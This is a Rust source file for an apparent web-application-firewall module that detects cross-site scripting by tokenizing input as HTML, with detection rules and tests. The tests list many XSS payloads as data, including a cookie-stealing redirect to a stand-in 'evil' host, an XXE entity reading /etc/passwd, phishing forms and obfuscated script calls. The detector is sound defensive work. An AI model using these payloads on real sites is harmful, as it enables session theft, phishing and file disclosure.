//! Cross-site scripting: would the value, written into a page, run script?
//!
//! The value is read by an HTML5 tokenizer (html5gum, which follows the
//! WHATWG tokenizer state by state, entities in attributes included) in each
//! place a page may put it: as text, inside a double- or single-quoted
//! attribute, unquoted, as a URL, and inside a string in a script. What
//! counts is what a browser would do with the tokens: a `<script>` or a
//! plugin element, an event-handler attribute, a `javascript:` URL, an
//! attribute or string the value breaks out of. Editor markup (`<p>`,
//! `<strong>`, `<a href="https://...">`, `<img src="/x.png">`) does none of it.

use html5gum::{DefaultEmitter, Token, Tokenizer};

use super::Hit;

pub fn inspect(value: &str) -> Option<Hit> {
    let bytes = value.as_bytes();
    let mut best: Option<Hit> = None;
    let mut consider = |hit: Option<Hit>| {
        if let Some(hit) = hit {
            if best.as_ref().is_none_or(|b| hit.score > b.score) {
                best = Some(hit);
            }
        }
    };
    // Found wherever they stand, whatever a tokenizer would make of the
    // rest: `<script` in any state (inside a `<title>`, after a broken tag),
    // XML declarations, context breakouts, a comment left open.
    let anywhere: [(Finder, &'static str); 4] = [
        (script_tag, "HTML text"),
        (xml_declaration, "XML declaration"),
        (breakout, "every context closed"),
        (open_comment, "HTML comment left open"),
    ];
    if let Some(hit) = anywhere
        .iter()
        .find_map(|(find, context)| find(bytes).map(|at| Hit { score: 5, context, at }))
    {
        return Some(hit);
    }
    if bytes.contains(&b'<') {
        // The page goes on after the value: a tag (or a quoted attribute) it
        // leaves open is closed by what follows, so it is read as if closed.
        consider(markup(&format!("{value}\"'>"), "HTML text", 0));
    }
    for quote in ['"', '\''] {
        if let Some(at) = value.find(quote) {
            // Out of the attribute, only `=` (a new attribute) or `>` (a new
            // tag) can do anything: `O'Brien` cannot.
            if value[at..].contains(['=', '>']) {
                consider(attribute(value, Some(quote), at));
            }
            consider(script_string(value, quote, at));
        }
    }
    if value.contains('`') {
        consider(script_string(value, '`', value.find('`').unwrap_or(0)));
    }
    if bytes.contains(&b'=') && bytes.iter().any(u8::is_ascii_whitespace) {
        consider(attribute(value, None, 0));
    }
    consider(url(value));
    consider(script_code(value));
    consider(handler_assignment(value));
    best
}

/// `onerror=alert(1)`: an event handler given code, wherever the value
/// lands in a tag (after a space, a quote or a `/`, which all end the
/// previous attribute).
fn handler_assignment(value: &str) -> Option<Hit> {
    let bytes = value.as_bytes();
    let in_tag = value.contains(['<', '>']);
    memchr::memchr_iter(b'=', bytes).find_map(|eq| {
        let word = super::preceding_word(bytes, eq);
        // `xmlns:svg`: a prefixed name is one attribute.
        let prefix = if bytes[..eq - word.len()].ends_with(b"xmlns:") {
            6
        } else {
            0
        };
        let start = eq - word.len() - prefix;
        let boundary = start == 0 || matches!(bytes[start - 1], b' ' | b'\t' | b'\n' | b'/' | b'"' | b'\'' | b'+');
        let name = lowercase(&bytes[start..eq]);
        let handler = is_event_handler(&name);
        let declares = name == b"style" || name == b"xmlns" || name.starts_with(b"xmlns:");
        if !boundary || !(handler || declares) {
            return None;
        }
        let code = attribute_value(&value[eq + 1..]);
        // A call, or a reach for the page's cookies or address.
        let calls = code.contains(['(', '`']) || ["document.", "location", "window."].iter().any(|r| code.contains(r));
        // `style=x:expression(alert(1))`, `xmlns:svg="..."`: an inline style
        // or a namespace declaration added the same way.
        let style = name == b"style" && (dangerous_css(code.as_bytes()) || style_breakout(code.as_bytes()))
            || name != b"style" && declares && code.contains("://");
        // After a space it needs an unquoted attribute to land in, or a tag
        // around it (`x onerror=alert(1)>`); after a quote or `/` it ends one.
        let ends_attribute = start == 0 || matches!(bytes[start - 1], b'/' | b'"' | b'\'' | b'+');
        (handler && calls || style).then_some(Hit {
            score: if ends_attribute || in_tag || style { 5 } else { 3 },
            context: "event handler attribute",
            at: start,
        })
    })
}

/// An attribute's value as a tokenizer would end it: at its closing quote,
/// or unquoted at a space or `>`.
fn attribute_value(after_equals: &str) -> &str {
    let rest = after_equals.trim_start_matches(' ');
    match rest.as_bytes().first() {
        Some(&quote @ (b'"' | b'\'')) => {
            let inner = &rest[1..];
            &inner[..memchr::memchr(quote, inner.as_bytes()).unwrap_or(inner.len())]
        }
        _ => &rest[..rest.find(|c: char| c.is_whitespace() || c == '>').unwrap_or(rest.len())],
    }
}

/// The value as page text: the tags it opens.
fn markup(value: &str, context: &'static str, offset: usize) -> Option<Hit> {
    let mut emitter = DefaultEmitter::default();
    // Switch to script, style and RCDATA states after those tags, as a
    // browser does: `<textarea><b onclick=x></textarea>` is text. Not in
    // SVG and MathML, where `<style>` holds markup.
    emitter.naively_switch_states(!foreign_content(value));
    let mut best: Option<u8> = None;
    let mut in_style = false;
    for token in Tokenizer::new_with_emitter(value, emitter).flatten() {
        let score = match token {
            Token::StartTag(tag) => {
                in_style = tag.name.eq_ignore_ascii_case(b"style");
                tag_score(
                    &tag.name,
                    tag.attributes.iter().map(|(k, v)| (&k[..], &v.value[..])),
                    true,
                )
            }
            // Closing a script the page opened: the way out of a script context.
            Token::EndTag(tag) if tag.name.eq_ignore_ascii_case(b"script") => Some(5),
            // Closing SVG or XSLT elements under their prefix (`</svg:svg>`).
            Token::EndTag(tag) if vocabulary_prefixed(&lowercase(&tag.name)) => Some(5),
            Token::String(text) if in_style && dangerous_css(&text.value) => Some(5),
            Token::Comment(text) if runs_in_old_ie(&text.value) => Some(5),
            _ => None,
        };
        best = best.max(score);
        if best == Some(5) {
            break;
        }
    }
    best.map(|score| Hit {
        score,
        context,
        at: offset,
    })
}

/// The value as an attribute's value: quoted by `quote`, or unquoted. It
/// must leave the attribute to do anything; what it adds after is judged
/// like markup.
fn attribute(value: &str, quote: Option<char>, at: usize) -> Option<Hit> {
    let (open, close, context) = match quote {
        Some('"') => ("<x a=\"", "\">", "double-quoted HTML attribute"),
        Some(_) => ("<x a='", "'>", "single-quoted HTML attribute"),
        None => ("<x a=", ">", "unquoted HTML attribute"),
    };
    let document = format!("{open}{value}{close}");
    let mut emitter = DefaultEmitter::default();
    emitter.naively_switch_states(!foreign_content(value));
    let mut best = None;
    let tokens = Tokenizer::new_with_emitter(document.as_str(), emitter)
        .flatten()
        .filter(|token| !matches!(token, Token::Error(_)));
    for (index, token) in tokens.enumerate() {
        let score = match token {
            // The element the value was written into: only what it added counts.
            Token::StartTag(tag) if index == 0 => tag_score(
                b"x",
                tag.attributes
                    .iter()
                    .filter(|(name, _)| &name[..] != b"a")
                    .map(|(k, v)| (&k[..], &v.value[..])),
                false,
            ),
            Token::StartTag(tag) => tag_score(
                &tag.name,
                tag.attributes.iter().map(|(k, v)| (&k[..], &v.value[..])),
                true,
            ),
            // Closing a script the page opened: the way out of a script context.
            Token::EndTag(tag) if tag.name.eq_ignore_ascii_case(b"script") => Some(5),
            _ => None,
        };
        best = best.max(score);
    }
    best.map(|score| Hit { score, context, at })
}

fn script_tag(bytes: &[u8]) -> Option<usize> {
    memchr::memchr_iter(b'<', bytes).find(|&at| {
        let rest = &bytes[at + 1..];
        rest.len() >= 6
            && rest[..6].eq_ignore_ascii_case(b"script")
            && rest
                .get(6)
                .is_none_or(|b| matches!(b, b'>' | b' ' | b'/' | b'\t' | b'\n'))
    })
}

fn foreign_content(value: &str) -> bool {
    let lower = value.to_ascii_lowercase();
    lower.contains("<svg") || lower.contains("<math")
}

/// How dangerous a start tag is: 5 if it runs script or loads active content.
/// `in_tag`: the tag is the value's own, not the one it was written into, so
/// even an empty handler (`<svg onload svg onload=...>`) is an attempt.
fn tag_score<'a>(name: &[u8], attributes: impl Iterator<Item = (&'a [u8], &'a [u8])>, in_tag: bool) -> Option<u8> {
    let lower = lowercase(name);
    // `<svg:svg>`, `<xsl:template>`: elements of those vocabularies under
    // their prefix.
    let mut score = match &lower[..] {
        _ if vocabulary_prefixed(&lower) => Some(5),
        b"script" | b"iframe" | b"frame" | b"frameset" | b"object" | b"embed" | b"applet" | b"base" | b"portal" => {
            Some(5)
        }
        // What no editor writes and a page never takes from input: foreign
        // content (SVG and MathML parse by other rules, the root of mutation
        // XSS), style sheets, `<meta>` (refresh, charset), `<link>` (style
        // sheets, imports), XSLT.
        b"svg" | b"math" | b"style" | b"meta" | b"link" => Some(5),
        // SVG's own elements, which mean nothing in HTML but foreign content
        // (`<image>` HTML reads as `<img>`).
        b"rect" | b"circle" | b"ellipse" | b"polygon" | b"polyline" | b"path" | b"image" | b"feimage"
        | b"foreignobject" | b"clippath" | b"lineargradient" | b"radialgradient" | b"symbol" | b"use" => Some(5),
        // A form in a page's content asks the reader for something on the
        // attacker's behalf: credentials, mostly.
        b"form" => Some(5),
        b"isindex" | b"layer" | b"ilayer" | b"bgsound" | b"xml" => Some(3),
        _ => None,
    };
    let meta = name.eq_ignore_ascii_case(b"meta");
    let input = name.eq_ignore_ascii_case(b"input");
    // Old IE's data islands and Netscape's layers load markup from elsewhere.
    let loads_markup = [&b"xml"[..], b"layer", b"ilayer"]
        .iter()
        .any(|n| name.eq_ignore_ascii_case(n));
    let styled = name.eq_ignore_ascii_case(b"link") || name.eq_ignore_ascii_case(b"style");
    // SVG's `<animate attributeName=onload to=...>` sets a handler or a link.
    let animates = name.eq_ignore_ascii_case(b"animate") || name.eq_ignore_ascii_case(b"set");
    for (attribute, value) in attributes {
        let attribute = lowercase(attribute);
        let runs_script = (is_event_handler(&attribute) && (in_tag || !value.is_empty()))
            || (animates
                && attribute == b"attributename"
                && (is_event_handler(&lowercase(value))
                    || value.eq_ignore_ascii_case(b"href")
                    || value.eq_ignore_ascii_case(b"xlink:href")))
            || (styled && dangerous_css(value))
            || dangerous_url(value)
            || (meta && refresh_to_script(value))
            || (attribute == b"style" && (dangerous_css(value) || style_breakout(value)))
            // refresh, Set-Cookie, Link: a page's behaviour set from input.
            || (meta && attribute == b"http-equiv")
            // Namespace declarations (`xmlns:xlink`, XML Events' `xmlns`):
            // markup from other vocabularies, with their own links and handlers.
            || attribute == b"xmlns"
            || attribute.starts_with(b"xmlns:")
            || (loads_markup && attribute == b"src")
            // A password field: the credential-phishing form's one need.
            || (input && attribute == b"type" && value.eq_ignore_ascii_case(b"password"))
            || (name.eq_ignore_ascii_case(b"style") && attribute == b"type" && lowercase(value).ends_with(b"javascript"))
            || backtick_handler(value)
            // Old IE's data binding and behaviours: markup or script from elsewhere.
            || (attribute == b"dataformatas" && value.eq_ignore_ascii_case(b"html"))
            || (attribute == b"implementation" && lowercase(value).starts_with(b"#default#"));
        let found = if runs_script {
            Some(5)
        } else if attribute == b"srcdoc" {
            std::str::from_utf8(value)
                .ok()
                .and_then(|html| markup(html, "HTML text", 0))
                .map(|hit| hit.score)
        } else {
            None
        };
        score = score.max(found);
    }
    score
}

/// Where in a value something starts, if it is there.
type Finder = fn(&[u8]) -> Option<usize>;

/// Old IE ran what a comment held: `<!--[if IE]>` conditional comments,
/// and `<script>` inside one.
fn runs_in_old_ie(comment: &[u8]) -> bool {
    let lower = lowercase(comment);
    lower.starts_with(b"[if ") || memchr::memmem::find(&lower, b"<script").is_some()
}

/// `svg:mask`, `xsl:template`: an element of SVG, MathML, XSLT or XML's
/// own vocabulary under its prefix.
fn vocabulary_prefixed(lower_name: &[u8]) -> bool {
    lower_name
        .iter()
        .position(|b| *b == b':')
        .is_some_and(|colon| matches!(&lower_name[..colon], b"svg" | b"xsl" | b"math" | b"xml"))
}

/// Old IE took backticks for quotes: ``src=`x`onerror=alert(1)`` sets a
/// handler inside what a standard tokenizer reads as one value.
fn backtick_handler(value: &[u8]) -> bool {
    let Some(tick) = memchr::memchr(b'`', value) else {
        return false;
    };
    let lower = lowercase(&value[tick..]);
    memchr::memmem::find_iter(&lower, b"on").any(|at| {
        let name_end = lower[at + 2..]
            .iter()
            .position(|b| !b.is_ascii_alphabetic())
            .map_or(lower.len(), |e| at + 2 + e);
        name_end - at > 4 && lower.get(name_end) == Some(&b'=')
    })
}

/// `onerror`, `onload`, `onpointerenter`...: every event handler attribute
/// is `on` and the event's name.
fn is_event_handler(attribute: &[u8]) -> bool {
    attribute.len() > 4 && attribute.starts_with(b"on") && attribute[2..].iter().all(u8::is_ascii_alphabetic)
}

/// A URL a browser would run as script, read as its URL parser would:
/// leading spaces and controls stripped, tabs and newlines removed anywhere.
fn dangerous_url(value: &[u8]) -> bool {
    let mut scheme = [0u8; 16];
    let mut len = 0;
    // Leading spaces and controls, and the backtick old IE took for a quote.
    let mut rest = value.iter().skip_while(|b| **b <= b' ' || **b == b'`');
    for &byte in rest.by_ref() {
        match byte {
            // Browsers drop tabs and newlines; older ones dropped every control.
            0..=0x1F => continue,
            b':' => break,
            _ if len == scheme.len() => return false,
            _ => {
                scheme[len] = byte.to_ascii_lowercase();
                len += 1;
            }
        }
    }
    match &scheme[..len] {
        b"javascript" | b"vbscript" | b"livescript" | b"mocha" => true,
        b"data" => {
            let media: Vec<u8> = rest.take(24).map(u8::to_ascii_lowercase).collect();
            [
                "text/html",
                "image/svg+xml",
                "application/xhtml",
                "text/xml",
                "application/xml",
            ]
            .iter()
            .any(|m| media.starts_with(m.as_bytes()))
        }
        _ => false,
    }
}

/// `<meta http-equiv=refresh content="0;url=javascript:...">`.
fn refresh_to_script(content: &[u8]) -> bool {
    let lower = lowercase(content);
    memchr::memmem::find_iter(&lower, b"url=").any(|at| dangerous_url(&lower[at + 4..]))
}

/// Style that runs script in old browsers or binds behaviour.
fn dangerous_css(style: &[u8]) -> bool {
    // CSS escapes (`\ja\vasc\ript`) and whitespace do not change what runs.
    let mut lower: Vec<u8> = lowercase(style)
        .into_iter()
        .filter(|b| !b.is_ascii_whitespace() && *b != b'\\')
        .collect();
    // `expr/**/ession(`: comments split words in old IE.
    while let Some(start) = memchr::memmem::find(&lower, b"/*") {
        let end = memchr::memmem::find(&lower[start + 2..], b"*/").map_or(lower.len(), |e| start + 2 + e + 2);
        lower.drain(start..end);
    }
    [
        "expression(",
        "javascript:",
        "vbscript:",
        "binding:",
        "behavior:",
        "behaviour:",
    ]
    .iter()
    .any(|needle| memchr::memmem::find(&lower, needle.as_bytes()).is_some())
}

/// An inline style that is not a list of plain declarations: braces leave
/// the declaration block, `@import` and `url()` load from elsewhere (the
/// way CSS reads a page out, and old browsers ran script), and CSS escapes
/// (`\65`) spell a property or a URL so that no filter reads it. Editors
/// write `color: red; text-align: center`.
fn style_breakout(style: &[u8]) -> bool {
    let escape = memchr::memchr_iter(b'\\', style).any(|at| style.get(at + 1).is_some_and(u8::is_ascii_hexdigit));
    let lower = lowercase(style);
    // A CSS string that holds a declaration's end (`font-family:'x;color:red'`)
    // is read as two declarations by a parser that disagrees on the quote.
    let hidden_declaration = style
        .split(|b| matches!(b, b'\'' | b'"'))
        .skip(1)
        .step_by(2)
        .any(|inside| inside.contains(&b';'));
    escape
        || hidden_declaration
        || style.iter().any(|b| matches!(b, b'{' | b'}' | b'[' | b']'))
        || [&b"@import"[..], b"url("]
            .iter()
            .any(|needle| memchr::memmem::find(&lower, needle).is_some())
}

/// XML markup declarations: an internal DTD subset (`<!DOCTYPE x [`),
/// `<!ENTITY`, `<!ATTLIST`, `<!ELEMENT` (external entities and entity
/// expansion: XXE), `<?xml-stylesheet` (an XSLT that runs script), and old
/// IE's `<?xml:namespace` and `<?import` (behaviours). Nothing a person
/// types or an editor writes.
fn xml_declaration(bytes: &[u8]) -> Option<usize> {
    memchr::memchr_iter(b'<', bytes).find(|&at| {
        let rest = lowercase(&bytes[at + 1..bytes.len().min(at + 16)]);
        let declaration = [
            &b"!entity"[..],
            b"!attlist",
            b"!element",
            b"?xml-stylesheet",
            b"?xml:namespace",
            b"?import",
        ]
        .iter()
        .any(|d| rest.starts_with(d) && rest.get(d.len()).is_none_or(u8::is_ascii_whitespace));
        let subset =
            rest.starts_with(b"!doctype") && bytes[at..].iter().take_while(|b| **b != b'>').any(|b| *b == b'[');
        declaration || subset
    })
}

/// `"'`-->]]>`: quotes of several kinds closed at once, then a comment or
/// a CDATA section: a string built to leave whatever context the page wrote
/// it in (attribute, script string, comment, CDATA) before its payload.
fn breakout(bytes: &[u8]) -> Option<usize> {
    let close = memchr::memmem::find(bytes, b"-->").or_else(|| memchr::memmem::find(bytes, b"]]>"))?;
    let just_before = &bytes[close.saturating_sub(4)..close];
    let quotes = [b'"', b'\'', b'`'].iter().filter(|q| just_before.contains(q)).count();
    (quotes >= 2).then_some(close)
}

/// `<!--` never closed: where the page writes the value, the rest of the page
/// becomes a comment, and what the value puts after it is all that shows.
fn open_comment(bytes: &[u8]) -> Option<usize> {
    let open = memchr::memmem::rfind(bytes, b"<!--")?;
    memchr::memmem::find(&bytes[open + 4..], b"-->")
        .is_none()
        .then_some(open)
}

/// The value used as a link or a redirect target, or holding one as a
/// string in code (`getURL("javascript:...")`).
fn url(value: &str) -> Option<Hit> {
    let bytes = value.as_bytes();
    // Each quoted string read to its closing quote, so the scan stays linear.
    let quoted = memchr::memchr2_iter(b'"', b'\'', bytes).find(|&at| {
        let rest = &value[at + 1..];
        script_url(&rest[..memchr::memchr(bytes[at], rest.as_bytes()).unwrap_or(rest.len())])
    });
    if let Some(at) = quoted {
        return Some(Hit {
            score: 5,
            context: "URL in a string",
            at,
        });
    }
    script_url(value).then_some(Hit {
        score: 5,
        context: "URL",
        at: 0,
    })
}

/// A `javascript:` URL that holds code, or a `data:` URL of markup.
fn script_url(value: &str) -> bool {
    let trimmed = value.trim_start_matches(|c: char| c <= ' ');
    if !dangerous_url(trimmed.as_bytes()) {
        return false;
    }
    let data = trimmed.get(..5).is_some_and(|s| s.eq_ignore_ascii_case("data:"));
    // `javascript: the good parts` is a book title; code calls something.
    data || trimmed.contains(['(', '`', '=', '\\', '['])
}

/// The value inside a string in a script (`var q = 'VALUE';`): a quote,
/// then an operator, then a call or a reach for the page's secrets.
fn script_string(value: &str, quote: char, at: usize) -> Option<Hit> {
    let rest = value[at + quote.len_utf8()..].trim_start();
    let operator = rest.chars().next()?;
    if !";+-*/%&|^,)}]?:<>=!".contains(operator) {
        return None;
    }
    let sink = calls(
        rest,
        &[
            "alert",
            "prompt",
            "confirm",
            "eval",
            "function",
            "settimeout",
            "setinterval",
            "fetch",
            "import",
            "atob",
            "fromcharcode",
            "write",
            "open",
            "print",
            "constructor",
        ],
    )
    .is_some();
    let lower = rest.to_ascii_lowercase();
    let secrets = ["document.cookie", "document.domain", "window.location", "localstorage"]
        .iter()
        .any(|name| lower.contains(name));
    let call = rest.contains('(') || rest.contains('`');
    let score = if sink || secrets {
        5
    } else if call {
        3
    } else {
        return None;
    };
    Some(Hit {
        score,
        context: "string in a script",
        at,
    })
}

/// Script code on its own (a JSONP callback, an `eval`ed parameter): a call
/// to the functions payloads use to prove they ran, or to `eval`.
fn script_code(value: &str) -> Option<Hit> {
    if let Some(at) = navigation(value)
        .or_else(|| computed_global_call(value))
        .or_else(|| sink_as_value(value))
    {
        return Some(Hit {
            score: 5,
            context: "script",
            at,
        });
    }
    let at = calls(value, &SINKS)?;
    // The whole value a call (`alert(1)`, `eval(a+b);`, the tagged template
    // ``alert`1` ``): code, not a sentence that mentions one.
    let whole = value[..at]
        .trim_matches(|c: char| c.is_whitespace() || c == ';')
        .is_empty()
        && value.trim_end().trim_end_matches(';').ends_with([')', '`']);
    // Or a call beside markup or statement punctuation (`}alert(1);{//`,
    // `<eval>...alert(1)`): code, not a sentence that mentions one.
    let with_arguments = !value[at..]
        .split_once('(')
        .is_some_and(|(_, rest)| rest.trim_start().starts_with(')'));
    let beside_code = with_arguments && value.contains(['<', '>', ';', '{', '}']);
    Some(Hit {
        score: if whole || beside_code { 5 } else { 3 },
        context: "script",
        at,
    })
}

/// The functions payloads call to prove they ran, and `eval`.
const SINKS: [&str; 4] = ["alert", "prompt", "confirm", "eval"];

/// `top['al'+'ert'](1)`, `window[atob('...')]()`: a global object's member
/// picked by a computed name, then called. Code built so that no name
/// appears in it; nothing else writes it.
fn computed_global_call(value: &str) -> Option<usize> {
    const GLOBALS: [&str; 8] = [
        "top",
        "self",
        "window",
        "parent",
        "frames",
        "globalthis",
        "this",
        "opener",
    ];
    let bytes = value.as_bytes();
    memchr::memchr_iter(b'[', bytes).find_map(|open| {
        let name = super::preceding_word(bytes, open);
        if !GLOBALS.iter().any(|g| name.eq_ignore_ascii_case(g.as_bytes())) {
            return None;
        }
        let close = open + memchr::memchr(b']', &bytes[open..])?;
        // Called right after the bracket: prose puts a space before `(`.
        matches!(bytes.get(close + 1), Some(b'(' | b'`')).then(|| open - name.len())
    })
}

/// `(alert)(1)`, `[1].find(alert)`, `a=alert,a(1)`: a sink named as a value
/// (wrapped, passed or assigned) in a value without spaces, which is code,
/// not prose mentioning it.
fn sink_as_value(value: &str) -> Option<usize> {
    if value.contains(char::is_whitespace) || !value.contains(['(', '`']) {
        return None;
    }
    let bytes = value.as_bytes();
    let lower = value.to_ascii_lowercase();
    SINKS.iter().find_map(|sink| {
        lower.match_indices(sink).map(|(at, _)| at).find(|&at| {
            let end = at + sink.len();
            let before = at.checked_sub(1).map(|i| bytes[i]);
            let after = bytes.get(end).copied();
            matches!(before, Some(b'(' | b',' | b'=' | b'[' | b':'))
                && matches!(after, Some(b')' | b',' | b']' | b';') | None)
        })
    })
}

/// `location="http://..."`, `document.location.href='...'`: a statement
/// that sends the page elsewhere (or reads its cookies away).
fn navigation(value: &str) -> Option<usize> {
    let bytes = value.as_bytes();
    memchr::memchr_iter(b'=', bytes).find_map(|eq| {
        if bytes.get(eq + 1) == Some(&b'=') || (eq > 0 && matches!(bytes[eq - 1], b'=' | b'!' | b'<' | b'>')) {
            return None;
        }
        let target = value[..eq].trim_end();
        // The name before the `=`: ASCII, so where it starts is a char boundary.
        let name_len = target
            .bytes()
            .rev()
            .take_while(|b| b.is_ascii_alphanumeric() || *b == b'.' || *b == b'_')
            .count();
        let start = target.len() - name_len;
        let lower = target[start..].to_ascii_lowercase();
        let assigned = value[eq + 1..].trim_start();
        let location = lower == "location" || lower.ends_with(".location") || lower.ends_with("location.href");
        (location && assigned.starts_with(['"', '\'', '`']) && value.contains(';')).then_some(start)
    })
}

/// Where the first call (`name(` or a tagged template `` name` ``) to one of
/// `names` starts, ignoring case.
fn calls(value: &str, names: &[&str]) -> Option<usize> {
    let bytes = value.as_bytes();
    memchr::memchr2_iter(b'(', b'`', bytes).find_map(|at| {
        let name = super::preceding_word(bytes, at);
        names
            .iter()
            .any(|n| name.eq_ignore_ascii_case(n.as_bytes()))
            .then(|| at - name.len())
    })
}

fn lowercase(bytes: &[u8]) -> Vec<u8> {
    bytes.to_ascii_lowercase()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::waf::testing;

    #[test]
    fn script_in_every_context_is_found() {
        testing::assert_all(
            inspect,
            &[
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<svg/onload=alert(1)>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"&#106;avascript:alert(1)\">x</a>",
                "<a href=\"java\tscript:alert(1)\">x</a>",
                "<iframe src=\"data:text/html,<script>alert(1)</script>\">",
                "\"><script>alert(1)</script>",
                "\" onmouseover=\"alert(1)",
                "' onfocus='alert(1)' autofocus='",
                "x onmouseover=alert(1)",
                "javascript:alert(document.cookie)",
                "  JaVaScRiPt:alert(1)",
                "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
                "';alert(1);//",
                "'-alert(1)-'",
                "\";document.location='http://evil/?c='+document.cookie;//",
                "<body onload=alert(1)>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<object data=\"javascript:alert(1)\">",
                "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
                "<div style=\"width: expression(alert(1))\">",
                "<svg><animate attributeName=href values=javascript:alert(1) />",
                "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
            ],
            true,
        );
    }

    #[test]
    fn markup_no_editor_writes_is_found() {
        testing::assert_all(
            inspect,
            &[
                "<svg>",
                "<math><a xlink:href=\"//example.com/\">click",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<meta charset=\"x-imap4-modified-utf7\">",
                "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
                "<xsl:stylesheet version=\"1.0\">",
                "<div style=\"background-image:\\0075\\0072\\006C\\0028'x'\\0029\">",
                "<div style=\"font-family:foo}color=red;\">x</div>",
                "<!DOCTYPE x [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><y>&x;</y>",
                "<!ENTITY xxe SYSTEM \"http://evil.example/\">",
                "<?xml-stylesheet type=\"text/xsl\" href=\"#\"?>",
                "<svg:svg>",
                "<a xmlns:xlink=\"http://www.w3.org/1999/xlink\" xlink:href=\"?\">",
                "<XML SRC=\"xsstest.xml\" ID=I></XML>",
                "<IMG SRC=\"mocha:[code]\">",
                "<rect fill=\"white\" width=\"1000\" height=\"1000\"/>",
                "<svg:mask id=\"m\">",
                "<form action=\"https://evil.example/\" method=\"post\">",
                "<input name=\"secret\" type=\"password\">",
                "<?xml:namespace prefix=\"t\" ns=\"urn:schemas-microsoft-com:time\">",
                "x//[\"'`-->]]>]</div>",
                "<div style=\"background:url(test5.svg)\">PRESS ENTER</div>",
                "style=xss:expression(alert(1))",
                "\" onmouseover=\"document.cookie=true;\">",
                "<!--[if gte IE 4]>",
                "</svg:svg>",
                "<LAYER SRC=\"http://evil.example/scriptlet.html\"></LAYER>",
                "getURL(\"javascript:alert('XSS')\")",
                "<div style=\"font-family:'foo;color:red;';\">x</div>",
                "<div style=\"[a]color[b]:[c]red\">x</div>",
                "xmlns:svg=\"http://www.w3.org/2000/svg\">",
                "<h1>Site closed</h1><!--",
            ],
            true,
        );
    }

    #[test]
    fn script_built_to_hide_its_names_is_found() {
        testing::assert_all(
            inspect,
            &[
                "alert`1`",
                "(alert)(1)",
                "a=alert,a(1)",
                "[1].find(alert)",
                "top[\"al\"+\"ert\"](1)",
                "window['al\\x65rt'](1)",
                "self[atob('YWxlcnQ=')]()",
            ],
            true,
        );
    }

    #[test]
    fn editor_markup_and_prose_pass() {
        testing::assert_all(
            inspect,
            &[
                "<p>Hello <strong>world</strong></p>",
                "<a href=\"https://example.com/page?a=1&b=2\">a link</a>",
                "<img src=\"/images/cat.png\" alt=\"A cat\">",
                "<ul><li>one</li><li>two</li></ul><blockquote>quote</blockquote>",
                "<p>How to use the &lt;script&gt; tag</p>",
                "I <3 cats & dogs > birds",
                "javascript: the good parts",
                "He said \"onward and upward\"",
                "It's 5 o'clock; time (for tea)",
                "x = \"a\" + b",
                "<p><textarea><b onclick=x></textarea></p>",
                "<h2 class=\"title\" id=\"intro\">Intro</h2>",
                "5 > 3 and 2 < 4",
                "alert() is blocking; use a modal instead",
                "<p style=\"color: red; text-align: center\">Red</p>",
                "<span style=\"font-family: 'Open Sans', sans-serif\">x</span>",
                "<!DOCTYPE html>",
                "Use (alert) for warnings, (info) otherwise",
                "the window[0] element",
                "top[1] (see the list)",
                "set alert=on,prompt=off",
                "step 1 --> step 2",
                "He said \"it's fine\" --> then left",
                "<p>Use <code>path</code> and <code>rect</code> in SVG</p>",
                "Read \"javascript: the good parts\" first",
                "<span style=\"font-family: 'Open Sans', Arial\">x</span>",
                "<p>Hi</p><!-- signature -->",
            ],
            false,
        );
    }
}
